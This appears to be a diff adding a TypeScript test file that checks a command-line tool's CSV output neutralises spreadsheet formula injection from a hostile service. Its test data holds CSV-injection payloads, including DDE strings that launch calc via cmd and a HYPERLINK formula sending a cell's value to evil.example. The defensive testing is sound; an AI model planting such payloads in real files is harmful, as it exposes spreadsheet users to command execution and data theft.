@@ -1,0 +1,37 @@
+// CSV for a person (src/output/csv.ts) from a HOSTILE service's words: opened in a spreadsheet,
+// a campaign name or subject that starts like a formula must stay text, numbers stay numbers.
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import { runCli } from './helpers/cli.js';
+import { reply, useHostileServer } from './helpers/hostile-server.js';
+
+const hs = useHostileServer();
+const CALC = "=cmd|' /C calc'!A0";
+const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const MINUS = "-2+3+cmd|' /C calc'!A0";
+const FULLWIDTH = '＝HYPERLINK("http://evil.example/?x="&A1)';
+
+describe('CSV for spreadsheets', () => {
+  it('report metrics --csv: formula-like names and subjects are written as text, numbers stay numbers', async () => {
+    hs.get().on('POST', '/campaign/v1/report/campaigns/metrics', reply.json([
+      { campaignSn: 'CP1', name: CALC, subject: SUM, reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 10, delivered: 8, bounced: 2, opened: 4, clicked: 1, complained: 0, unsubscribed: 0 },
+      { campaignSn: 'CP2', name: MINUS, subject: FULLWIDTH, reportType: 'TOTAL', channel: 'MAIL', recipientCnt: 3, delivered: 3, bounced: 0, opened: 0, clicked: 0, complained: 0, unsubscribed: 0 },
+    ]));
+    const r = await runCli(['report', 'metrics', 'CP1', 'CP2', '--csv'], { env: hs.get().env });
+    expect(r.exitCode).toBe(0);
+    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((x) => [x.name, x.subject])).toEqual([[`'${CALC}`, `'${SUM}`], [`'${MINUS}`, `'${FULLWIDTH}`]]);
+    expect(rows[0]).toMatchObject({ recipientCnt: '10', delivered: '8', openRate: '0.5' });
+  });
+
+  it('events --csv: a formula-like subject, even one that starts like a negative number, is written as text', async () => {
+    hs.get().on('GET', '/notify/v1/events', reply.json({ logs: [
+      { messageId: 'm1', status: 'delivery', eventTime: '2026-01-01T00:00:00Z', mail: { to: 'ann@example.com', subject: MINUS } },
+      { messageId: 'm2', status: 'delivery', eventTime: '2026-01-01T00:00:01Z', mail: { to: '+ann@example.com', subject: FULLWIDTH } },
+    ] }));
+    const r = await runCli(['events', '--from', '7d', '--csv'], { env: hs.get().env });
+    expect(r.exitCode).toBe(0);
+    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((x) => [x.recipient, x.subject])).toEqual([['ann@example.com', `'${MINUS}`], ["'+ann@example.com", `'${FULLWIDTH}`]]);
+  });
+});
